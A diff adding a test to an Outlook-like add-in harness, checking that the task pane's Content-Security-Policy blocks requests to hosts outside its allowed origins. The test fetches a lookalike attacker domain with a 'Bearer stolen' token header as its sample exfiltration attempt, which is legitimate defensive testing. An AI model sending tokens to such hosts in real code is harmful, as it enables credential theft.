@@ -110,6 +110,18 @@ describe("the task pane in the Outlook-like harness", () => {
     }
   });
 
+  it("the pane may connect only to its own origin, Microsoft's hosts and (in development) this machine: a request anywhere else is blocked by its Content-Security-Policy", async () => {
+    const frame = await paneFrame();
+    const violation = await frame.evaluate(
+      () =>
+        new Promise<{ directive: string; blocked: string }>((resolve) => {
+          document.addEventListener("securitypolicyviolation", (e) => resolve({ directive: e.effectiveDirective, blocked: e.blockedURI }), { once: true });
+          fetch("https://graph.microsoft.com.evil.example/v1.0/me", { headers: { Authorization: "Bearer stolen" } }).catch(() => undefined);
+        }),
+    );
+    expect(violation).toEqual({ directive: "connect-src", blocked: "https://graph.microsoft.com.evil.example/v1.0/me" });
+  });
+
   it("says nothing against an ordinary sender: no banner, notification or category", async () => {
     await open("chris.patel@example.co.uk");
     await pane.getByTestId("no-strategy").waitFor();
